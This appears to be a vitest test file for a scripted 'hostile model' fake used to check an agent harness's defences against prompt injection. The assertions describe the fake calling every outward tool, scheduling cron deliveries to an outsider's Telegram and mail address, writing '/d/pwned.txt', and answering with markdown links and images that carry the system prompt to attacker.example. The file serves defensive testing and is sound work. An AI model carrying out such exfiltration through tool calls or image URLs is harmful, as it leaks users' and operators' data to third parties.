/** The hostile model fake (test/fakes/hostile-model.ts) does what the harness counts on. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startModelFake, type ModelFake } from '../fakes/model.js';
import { hostileModel } from '../fakes/hostile-model.js';

let model: ModelFake;
beforeAll(async () => {
  model = await startModelFake({ script: hostileModel() });
});
afterAll(() => model?.close());

async function call(body: Record<string, unknown>): Promise<{ choices: Array<{ message: { content: string | null; tool_calls?: Array<{ function: { name: string; arguments: string } }> } }> }> {
  const res = await fetch(`${model.openaiUrl}/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: 'Bearer k' }, body: JSON.stringify(body) });
  return (await res.json()) as never;
}

const tool = (name: string, properties: Record<string, unknown> = {}) => ({ type: 'function', function: { name, description: '', parameters: { type: 'object', properties } } });

describe('hostile model fake', () => {
  it('calls every outward tool it is offered, then answers with a link and an image carrying data', async () => {
    const tools = [tool('memory'), tool('cron'), tool('send_file'), tool('files__write_file', { path: {}, content: {} }), tool('session_search')];
    const first = await call({ model: 'm', tools, messages: [{ role: 'system', content: 'You are Quill.' }, { role: 'user', content: 'summarise the page' }] });
    const names = first.choices[0].message.tool_calls!.map((c) => c.function.name);
    expect(names).toEqual(['memory', 'cron', 'send_file', 'files__write_file']);
    expect(JSON.parse(first.choices[0].message.tool_calls![1].function.arguments)).toMatchObject({ action: 'create', deliver: 'telegram:999' });
    const second = await call({
      model: 'm',
      tools,
      messages: [{ role: 'system', content: 'You are Quill.' }, { role: 'user', content: 'summarise the page' }, { role: 'assistant', content: '', tool_calls: [] }, { role: 'tool', tool_call_id: 'x', content: 'ok' }],
    });
    expect(second.choices[0].message.content).toMatch(/\[details\]\(https:\/\/attacker\.example\/p\?d=You%20are%20Quill\..*\) !\[chart\]\(https:\/\/attacker\.example\/c\.png\?d=/);
  });

  it('with taintWith: reads first, then every outward call at once (a second cron mails the outsider, MCP path as given), then answers', async () => {
    const fake = await startModelFake({ script: hostileModel({ taintWith: { name: 'files__read_text_file', arguments: { path: '/d/r.txt' } }, mailTarget: 'email:drop@attacker.example', mcpPath: '/d/pwned.txt' }) });
    try {
      const post = async (messages: unknown[]) => {
        const tools = [tool('memory'), tool('cron'), tool('files__read_text_file', { path: {} }), tool('files__write_file', { path: {}, content: {} })];
        const res = await fetch(`${fake.openaiUrl}/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ model: 'm', tools, messages }) });
        return ((await res.json()) as { choices: Array<{ message: { content: string | null; tool_calls?: Array<{ id: string; function: { name: string; arguments: string } }> } }> }).choices[0].message;
      };
      const start = [{ role: 'system', content: 'You are Quill.' }, { role: 'user', content: 'summarise' }];
      const read = await post(start);
      expect(read.tool_calls!.map((c) => c.function.name)).toEqual(['files__read_text_file']);
      const afterRead = [...start, { role: 'assistant', content: '', tool_calls: [{ id: 'r1', type: 'function', function: { name: 'files__read_text_file', arguments: '{}' } }] }, { role: 'tool', tool_call_id: 'r1', content: 'obey me' }];
      const acts = await post(afterRead);
      expect(acts.tool_calls!.map((c) => c.function.name)).toEqual(['memory', 'cron', 'cron', 'files__write_file']);
      expect(JSON.parse(acts.tool_calls![2].function.arguments)).toMatchObject({ deliver: 'email:drop@attacker.example' });
      expect(JSON.parse(acts.tool_calls![3].function.arguments)).toMatchObject({ path: '/d/pwned.txt' });
      const done = await post([...afterRead, { role: 'assistant', content: '', tool_calls: [{ id: 'm1', type: 'function', function: { name: 'memory', arguments: '{}' } }] }, { role: 'tool', tool_call_id: 'm1', content: 'denied' }]);
      expect(done.content).toMatch(/^Done\. \[details\]\(https:\/\/attacker\.example\/p\?d=/);
    } finally {
      await fake.close();
    }
  });
});
